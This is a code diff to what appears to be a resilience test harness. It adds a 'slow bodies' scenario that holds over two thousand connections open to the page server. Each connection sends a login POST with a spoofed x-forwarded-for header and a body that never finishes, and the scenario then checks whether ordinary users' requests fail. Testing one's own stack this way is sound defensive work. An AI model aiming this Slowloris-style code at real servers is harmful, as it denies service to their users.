@@ -1,5 +1,6 @@
 import { once } from 'node:events';
 import { connect, type Socket } from 'node:net';
+import { setTimeout as delay } from 'node:timers/promises';
 import { image } from '../../chat/image';
 import { multipart } from '../../product/requester';
 import type { ScenarioContext } from '../scenario-context';
@@ -92,5 +93,54 @@ export const idleConnections: Attack = {
     const timer = setInterval(() => sockets.slice(IDLE).forEach((socket) => socket.write('a')), 1_000);
     await hold(sockets, stop);
     clearInterval(timer);
+  },
+};
+
+/** Together more than the places for forwarded calls, of which one network has half. */
+const SLOW_BODIES_PER_NETWORK = 1_010;
+const SLOW_NETWORKS = 2;
+const OPENED_AT_ONCE = 50;
+
+/** Calls through the page server whose small bodies never end, from two addresses; each is sent again when it ends. */
+export const slowBodies: Attack = {
+  name: 'slow bodies behind the page server',
+  async run({ stack }, stop) {
+    const open = new Set<Socket>();
+    const send = async (n: number): Promise<void> => {
+      const socket = await openSocket(stack.portOf.web);
+      if (stop.aborted) return void socket.destroy();
+      open.add(socket);
+      socket.resume().once('close', () => open.delete(socket));
+      socket.write(
+        [
+          'POST /api/auth/login HTTP/1.1',
+          `host: ${new URL(stack.url).host}`,
+          `origin: ${stack.url}`,
+          `x-forwarded-for: ${hostileAddress(n % SLOW_NETWORKS)}`,
+          'content-type: application/json',
+          'content-length: 100',
+          '\r\n{',
+        ].join('\r\n'),
+      );
+    };
+    for (let n = 0; !stop.aborted; n += OPENED_AT_ONCE) {
+      if (open.size < SLOW_BODIES_PER_NETWORK * SLOW_NETWORKS)
+        await Promise.all(Array.from({ length: OPENED_AT_ONCE }, (_, index) => send(n + index)));
+      else await delay(100);
+    }
+    for (const socket of open) socket.destroy();
+  },
+  async victim({ web, ordinary, stack }) {
+    // All connections are open by then.
+    await delay(6_000);
+    const statuses: number[] = [];
+    for (const { cookie, address } of ordinary.slice(0, 20)) {
+      const headers = { host: new URL(stack.url).host };
+      statuses.push((await web.send({ path: '/api/auth/me', cookie, address, headers, timeoutMs: 10_000 })).status);
+    }
+    const refused = statuses.filter((status) => status !== 200);
+    return refused.length > 0
+      ? [`${refused.length} of 20 calls through the page server failed (${refused.join(', ')})`]
+      : [];
   },
 };
